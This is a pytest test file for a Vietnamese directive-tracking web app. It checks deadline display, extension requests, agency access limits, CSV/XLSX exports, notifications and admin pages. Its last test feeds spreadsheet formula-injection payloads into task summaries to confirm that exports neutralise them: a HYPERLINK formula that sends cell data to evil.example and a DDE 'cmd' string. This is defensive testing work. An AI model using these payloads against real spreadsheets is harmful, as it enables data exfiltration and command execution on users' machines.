"""Follow-up in the browser's pages: deadlines in lists, requests, dashboard, exports, bell, admin."""
from __future__ import annotations

import csv
import io
import re

import pytest
from openpyxl import load_workbook

from .conftest import another_process, draft_data, login
from .test_deadline_tracking import at, one_task, run_worker, weekly_report


def test_the_task_list_shows_working_days_left_and_colours_by_them(client, lifecycle, clock):
    lifecycle.distributed(one_task("2026-11-27"))  # Friday; today is Monday 23/11, Tuesday 24/11 is a holiday
    page = login(client, "sct.cv").get("/tasks").get_data(as_text=True)
    row = re.search(r'<tr class="soon" data-task-id="[^"]+">.*?</tr>', page, re.S).group(0)
    assert "Tiếp nhận nhiệm vụ" in row and "Còn 3 ngày làm việc" in row
    clock.set(at("2026-11-30T09:00"))
    page = client.get("/tasks").get_data(as_text=True)
    assert re.search(r'<tr class="late" data-task-id="[^"]+">.*?Quá hạn 1 ngày làm việc', page, re.S)


def test_an_agency_asks_for_an_extension_from_its_task_page(client, lifecycle):
    lifecycle.distributed(one_task("2026-12-15"))
    accept = lifecycle.task("sct.cv", "accept")
    page = login(client, "sct.cv").get(f"/tasks/{accept.id}").get_data(as_text=True)
    assert 'id="request-extension"' in page and 'id="request-authority"' in page
    assignment = re.search(r'action="/assignments/([^/]+)/extension"', page).group(1)
    refused = client.post(f"/assignments/{assignment}/extension", data={
        "extension_new_deadline": "2026-12-01", "extension_reason": "Chờ ý kiến của Bộ Công Thương.",
        "back": f"/tasks/{accept.id}"}, follow_redirects=True).get_data(as_text=True)
    assert "Hạn mới phải sau hạn hiện tại 15/12/2026." in refused
    far = client.post(f"/assignments/{assignment}/extension", data={
        "extension_new_deadline": "9999-12-31", "extension_reason": "Chờ ý kiến của Bộ Công Thương.",
        "back": f"/tasks/{accept.id}"}, follow_redirects=True).get_data(as_text=True)
    assert "Hạn 31/12/9999 xa quá 10 năm; hãy kiểm tra lại năm" in far  # refused here, not at the approval
    done = client.post(f"/assignments/{assignment}/extension", data={
        "extension_new_deadline": "2027-01-29", "extension_reason": "Chờ ý kiến của Bộ Công Thương.",
        "back": f"/tasks/{accept.id}"}, follow_redirects=True).get_data(as_text=True)
    assert "Đã gửi đề nghị gia hạn" in done and 'id="request-extension"' not in done
    review = lifecycle.task("cvp", "review_extension")
    assert review.label.startswith("Sở Công Thương xin gia hạn nhiệm vụ 1")


def test_another_agency_cannot_send_a_request_about_the_task(client, lifecycle):
    lifecycle.distributed(one_task("2026-12-15"))
    accept = lifecycle.task("sct.cv", "accept")
    response = login(client, "stc.cv").post(f"/assignments/{accept.instance_id}/authority",
                                            data={"authority_matter": "Một vấn đề không thuộc thẩm quyền."})
    assert response.status_code == 403


def test_the_dashboard_counts_by_status_and_exports_csv_and_xlsx(client, lifecycle, clock):
    lifecycle.distributed(draft_data(tasks=[
        {"ref": "1", "summary": "Xây dựng chính sách", "lead": ["SCT"], "coordinate": [], "deadline": "2026-11-26"},
        {"ref": "2", "summary": "Hướng dẫn KCN", "lead": ["BQLKKT"], "coordinate": [], "deadline": "2027-03-31"}]))
    page = login(client, "cv.lan").get("/dashboard").get_data(as_text=True)
    assert re.search(r'data-status="due_soon">1<', page) and re.search(r'data-status="on_track">1<', page)
    rows = list(csv.reader(io.StringIO(client.get("/dashboard/export.csv").get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[0][:3] == ["Số, ký hiệu", "Trích yếu", "Mục"]
    assert [r[4] for r in rows[1:]] == ["Sở Công Thương", "Ban Quản lý Khu kinh tế"]
    assert rows[1][9] == "Đang thực hiện – sắp đến hạn" and rows[1][7] == "26/11/2026"
    sheet = load_workbook(io.BytesIO(client.get("/dashboard/export.xlsx").get_data())).active
    assert sheet["A1"].value == "Số, ký hiệu" and sheet["J3"].value == "Đang thực hiện – trong hạn"
    agency = login(client.application.test_client(), "sct.cv").get("/dashboard/export.csv").get_data(as_text=True)
    assert "Hướng dẫn KCN" not in agency and "Xây dựng chính sách" in agency


def test_the_bell_counts_unread_notifications_until_they_are_read(client, lifecycle, svc, clock):
    lifecycle.distributed(one_task("2026-12-15"))
    run_worker(svc, clock, "2026-12-10T08:00")
    login(client, "sct.cv")
    assert '<span class="badge" id="unread-count">1</span>' in client.get("/tasks").get_data(as_text=True)
    page = client.get("/notifications").get_data(as_text=True)
    assert "Sắp đến hạn: nhiệm vụ 1" in page and "còn 3 ngày làm việc" in page
    assert "● Sắp đến hạn" in page  # marked new on the page that reads it…
    assert 'id="unread-count"' not in page  # …whose bell, like every page's after it, counts nothing unread
    assert 'id="unread-count"' not in client.get("/tasks").get_data(as_text=True)


def test_the_draft_form_previews_a_deadline_phrase(client):
    login(client, "cv.lan")
    found = client.get("/deadlines/preview?phrase=trước ngày 10 tháng 8 năm 2027").get_json()
    assert (found["date"], found["due_text"]) == ("2027-08-10", "10/08/2027")
    refused = client.get("/deadlines/preview?phrase=càng sớm càng tốt")
    assert refused.status_code == 400 and "Không đọc được thời hạn" in refused.get_json()["error"]


def test_an_admin_records_an_extra_day_off_and_deadlines_move_past_it(client, lifecycle, svc):
    login(client, "admin")
    page = client.get("/admin/calendar?year=2026").get_data(as_text=True)
    assert "Tết Nguyên Đán" in page
    response = client.post("/admin/calendar", data={"day": "2026-12-15", "working": "0",
                                                      "note": "Nghỉ bù theo quyết định của UBND tỉnh"})
    assert response.status_code == 303
    lifecycle.distributed(one_task("2026-12-15"))
    assert lifecycle.task("sct.cv", "accept").due_at == at("2026-12-16T23:59:59")
    assert login(client.application.test_client(), "sct.cv").get("/admin/calendar").status_code == 403


def test_incidents_are_listed_for_admins_who_can_retry_them(client, lifecycle, svc, clock, monkeypatch):
    lifecycle.distributed(one_task("2026-12-15"))

    def broken(ctx):
        raise RuntimeError("máy chủ thư không trả lời")

    monkeypatch.setitem(svc.engine.plugin.handlers, "directive.remind", broken)
    for moment in ("2026-12-10T08:00", "2026-12-10T08:01", "2026-12-10T08:03"):
        run_worker(svc, clock, moment)
    page = login(client, "admin").get("/admin/incidents").get_data(as_text=True)
    assert "máy chủ thư không trả lời" in page
    job_id = re.search(r'/admin/incidents/([^/]+)/retry', page).group(1)
    monkeypatch.setitem(svc.engine.plugin.handlers, "directive.remind",
                        svc.engine.plugin.handlers["directive.mark_overdue"].__self__.remind)
    assert client.post(f"/admin/incidents/{job_id}/retry").status_code == 303
    run_worker(svc, clock, "2026-12-10T08:05")
    assert "Không có sự cố nào." in client.get("/admin/incidents").get_data(as_text=True)


def test_after_worker_now_the_pages_of_another_process_read_the_same_moment(database_url, lifecycle, clock):
    lifecycle.distributed(one_task("2026-12-15"))
    web = another_process(database_url)  # a server running on the system time, as `chidao serve` does
    page = login(web.test_client(), "cv.lan").get("/dashboard").get_data(as_text=True)
    assert '<td class="num" data-status="overdue">0</td>' in page
    worker = another_process(database_url)  # `chidao worker` is another process
    result = worker.test_cli_runner().invoke(args=["worker", "--once", "--now", "2027-01-11T08:00+07:00"])
    assert result.exit_code == 0, result.output
    page = login(web.test_client(), "cv.lan").get("/dashboard").get_data(as_text=True)
    assert '<td class="num" data-status="overdue">1</td>' in page
    assert web.extensions["chidao"].clock.now().date().isoformat() == "2027-01-11"
    for app in (web, worker):
        app.extensions["chidao"].db.dispose()


def test_ending_a_recurring_report_is_offered_once_the_agency_has_accepted_it(client, lifecycle, svc, clock):
    clock.set(at("2025-08-25T09:00"))
    directive = lifecycle.distributed(weekly_report())
    login(client, "cv.lan")
    page = client.get(f"/directives/{directive}").get_data(as_text=True)
    assignment = re.search(r'<tr data-assignment="([^"]+)">', page).group(1)
    assert f'action="/assignments/{assignment}/close"' not in page
    assert "Kết thúc theo dõi được khi cơ quan chủ trì đã tiếp nhận nhiệm vụ." in page
    stale = client.post(f"/assignments/{assignment}/close", follow_redirects=True)  # a page left open
    assert stale.status_code == 200
    assert "Chưa kết thúc theo dõi được: cơ quan chủ trì chưa tiếp nhận nhiệm vụ" in stale.get_data(as_text=True)
    lifecycle.complete("sct.cv", "accept", {"handler_name": "Nguyễn Văn A"})
    page = client.get(f"/directives/{directive}").get_data(as_text=True)
    assert f'action="/assignments/{assignment}/close"' in page
    closed = client.post(f"/assignments/{assignment}/close", follow_redirects=True).get_data(as_text=True)
    assert "Đã kết thúc theo dõi báo cáo định kỳ." in closed
    assert lifecycle.tasks("sct.cv", "report") == []


@pytest.mark.parametrize("summary", ['=HYPERLINK("http://evil.example?d="&A1,"Xem")', "+1+cmd|' /C calc'!A0",
                                     "-2+3", "@SUM(1+1)", "\t=1+1"])
def test_an_export_never_hands_a_spreadsheet_a_formula_typed_into_a_task(client, lifecycle, summary):
    lifecycle.distributed(one_task("2026-12-15", summary=summary))
    login(client, "cv.lan")
    rows = list(csv.reader(io.StringIO(client.get("/dashboard/export.csv").get_data(as_text=True).lstrip("\ufeff"))))
    assert rows[1][3] == "'" + summary  # shown as typed, behind the quote that keeps it text
    assert rows[1][10].lstrip("-").isdigit()  # numbers stay numbers
    sheet = load_workbook(io.BytesIO(client.get("/dashboard/export.xlsx").get_data())).active
    cell = sheet["D2"]
    assert cell.data_type == "s" and cell.value == summary
